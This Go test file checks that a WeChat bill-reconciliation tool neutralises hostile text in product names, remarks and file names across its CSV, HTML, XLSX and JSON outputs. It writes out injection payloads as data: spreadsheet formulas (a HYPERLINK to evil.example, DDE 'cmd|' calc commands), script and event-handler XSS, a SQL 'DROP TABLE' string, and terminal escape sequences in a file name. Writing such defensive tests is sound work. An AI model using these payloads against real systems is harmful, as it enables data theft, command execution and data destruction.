package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// hostile is what a payer can write into the name of a product or a remark.
var hostile = map[string]string{
	"formula":     `=HYPERLINK("http://evil.example/"&A1;"见")`,
	"plus":        `+cmd|' /C calc'!A0`,
	"at":          `@SUM(1+1)*cmd|' /C calc'!A0`,
	"minus":       `-2+3+cmd|' /C calc'!A0`,
	"full width":  `＝cmd|' /C calc'!A0`,
	"blank first": ` =1+1`,
	"tag":         `<script>alert(1)</script>`,
	"attribute":   `" onmouseover="alert(1)" x="`,
	"close":       `</td></table></body><img src=x onerror=alert(1)>`,
	"template":    `{{.Account}} ${x} {{define "x"}}`,
	"bidi":        "abc\u202egpj.exe\u2066",
	"zero width":  "ali\u200bpay\ufeff",
	"sql":         `'); DROP TABLE recon_case; --`,
	"sql quote":   `" OR ""="`,
	"placeholder": `$1 ? :account %s %n`,
	"long":        strings.Repeat("长", 5000),
}

// hostileShop has one unbooked payment for each text, so that each becomes a
// difference with its whole row.
func hostileShop(t *testing.T) *shop {
	rows := []billRow{{order: "A-1", product: "好", amount: 100}}
	for _, name := range sortedNames(hostile) {
		rows = append(rows, billRow{order: fmt.Sprintf("B-%d", len(rows)), product: cell(hostile[name]), packet: cell(hostile[name]), amount: int64(100 + len(rows)), unbooked: true})
	}
	return newShop(t, rows...)
}

// cell writes a text as WeChat writes it into a bill.
func cell(text string) string { return strings.ReplaceAll(text, ",", `\ `) }

func sortedNames(m map[string]string) []string {
	names := make([]string, 0, len(m))
	for name := range m {
		names = append(names, name)
	}
	for i := range names {
		for j := i; j > 0 && names[j] < names[j-1]; j-- {
			names[j], names[j-1] = names[j-1], names[j]
		}
	}
	return names
}

// invisible are the characters that no output may hold: controls except the
// line's own, bidi marks, zero-width characters.
var invisible = regexp.MustCompile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069]")

// Names, remarks and products of strangers go through the whole of compare: no
// table takes them for a formula, no page for markup, no terminal for a command.
func TestAttack08_10_11_Compare(t *testing.T) {
	s := hostileShop(t)
	for _, lang := range []string{"zh", "en"} {
		got := s.compare(lang)
		if got.code != 10 {
			t.Fatalf("%s: ends with %d:\n%s%s", lang, got.code, got.out, got.err)
		}
		if m := invisible.FindString(got.out + got.err); m != "" {
			t.Errorf("%s: %q reaches the terminal", lang, m)
		}
	}
	out := files(t, filepath.Join(s.dir, "out"))
	seen := map[string]int{}
	for name, body := range out {
		switch kind := filepath.Ext(name); kind {
		case ".csv":
			checkCSV(t, name, body)
			seen[kind]++
		case ".html":
			checkHTML(t, name, string(body))
			seen[kind]++
		case ".xlsx":
			checkWorkbook(t, name, body)
			seen[kind]++
		case ".json":
			var v any
			if err := json.Unmarshal(body, &v); err != nil {
				t.Errorf("%s: %v", name, err)
			}
			seen[kind]++
		}
	}
	for _, kind := range []string{".csv", ".html", ".xlsx", ".json"} {
		if seen[kind] == 0 {
			t.Errorf("compare wrote no %s file", kind)
		}
	}
	if n := bytes.Count(out["differences.csv"], []byte("\r\n")); n < len(hostile)+1 {
		t.Errorf("differences.csv has %d lines, want one for each of %d texts", n, len(hostile))
	}
}

// checkCSV reads the table as a spreadsheet does: no cell of text begins a
// formula. Numbers may begin with a minus.
func checkCSV(t *testing.T, name string, body []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	rows, err := r.ReadAll()
	if err != nil {
		t.Errorf("%s: %v", name, err)
	}
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	for i, row := range rows {
		for _, c := range row {
			first := strings.TrimLeft(c, " \u3000\u00a0")
			if first != "" && strings.ContainsAny(first[:1], "=+-@\t\r") && !number.MatchString(c) || strings.HasPrefix(first, "＝") {
				t.Errorf("%s line %d: the cell %.60q is a formula", name, i+1, c)
			}
		}
	}
	if m := invisible.Find(bytes.TrimPrefix(body, []byte("\ufeff"))); m != nil {
		t.Errorf("%s holds %q", name, m)
	}
}

// checkHTML demands that what strangers wrote is text, and that the page can
// fetch and run nothing.
func checkHTML(t *testing.T, name, page string) {
	t.Helper()
	for _, bad := range []string{"<script>alert", "<img src=x", `" onmouseover="alert`, "</table></body><img", `href="http`, `src="http`} {
		if strings.Contains(page, bad) {
			t.Errorf("%s holds %s", name, bad)
		}
	}
	if !strings.Contains(html.UnescapeString(page), `http-equiv="Content-Security-Policy" content="default-src 'none';`) {
		t.Errorf("%s says nothing about what it may load", name)
	}
	if m := invisible.FindString(page); m != "" {
		t.Errorf("%s holds %q", name, m)
	}
}

// checkWorkbook looks at each part of the XLSX: no formula, no link to
// elsewhere, no macro.
func checkWorkbook(t *testing.T, name string, body []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for _, f := range z.File {
		if strings.Contains(f.Name, "vbaProject") || strings.Contains(f.Name, "externalLinks") {
			t.Errorf("%s holds %s", name, f.Name)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		part, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(part, []byte("cmd|")) && bytes.Contains(part, []byte("<f>")) || bytes.Contains(part, []byte("<f>HYPERLINK")) {
			t.Errorf("%s, %s: a text of a stranger is a formula", name, f.Name)
		}
		if bytes.Contains(part, []byte(`TargetMode="External"`)) {
			t.Errorf("%s, %s links to elsewhere", name, f.Name)
		}
		if m := invisible.Find(part); m != nil {
			t.Errorf("%s, %s holds %q", name, f.Name, m)
		}
	}
}

// A file name is a text of a stranger as well: it is shown with its marks
// visible, on the terminal and in each report.
func TestAttack09_11_FileNames(t *testing.T) {
	s := newShop(t, billRow{order: "A-1", product: "好", amount: 100})
	evil := "bill\x1b]0;owned\x07\x1b[2J\nRESULT code=0 \u202e<b>=1+1.csv"
	s.write(t, filepath.Join("in", evil), s.bill(t))
	got := program("compare", "--channel", "wechat", "--statement", filepath.Join(s.dir, "in", evil),
		"--local", filepath.Join(s.dir, "export", "wechat-main-2025-11-20.csv"), "--out", filepath.Join(s.dir, "out"))
	if got.code != 0 {
		t.Fatalf("ends with %d:\n%s%s", got.code, got.out, got.err)
	}
	described := program("channel", "describe", filepath.Join(s.dir, "in", evil))
	missing := program("channel", "describe", filepath.Join(s.dir, "in", "x"+evil))
	broken := filepath.Join("in", "y"+evil)
	s.write(t, broken, []byte("<x>"))
	refused := program("channel", "describe", filepath.Join(s.dir, broken))
	for name, r := range map[string]said{"compare": got, "describe": described, "missing": missing, "refused": refused} {
		if m := invisible.FindString(r.out + r.err); m != "" {
			t.Errorf("%s: %q reaches the terminal:\n%q", name, m, r.out+r.err)
		}
		if n := strings.Count("\n"+r.err, "\nRESULT code="); n != 1 {
			t.Errorf("%s: %d RESULT lines: %q", name, n, r.err)
		}
	}
	if refused.code != 24 || missing.code == 0 {
		t.Errorf("refused %d, missing %d", refused.code, missing.code)
	}
	for name, body := range files(t, filepath.Join(s.dir, "out")) {
		switch filepath.Ext(name) {
		case ".html":
			checkHTML(t, name, string(body))
		case ".csv":
			checkCSV(t, name, body)
		case ".xlsx":
			checkWorkbook(t, name, body)
		}
	}
}
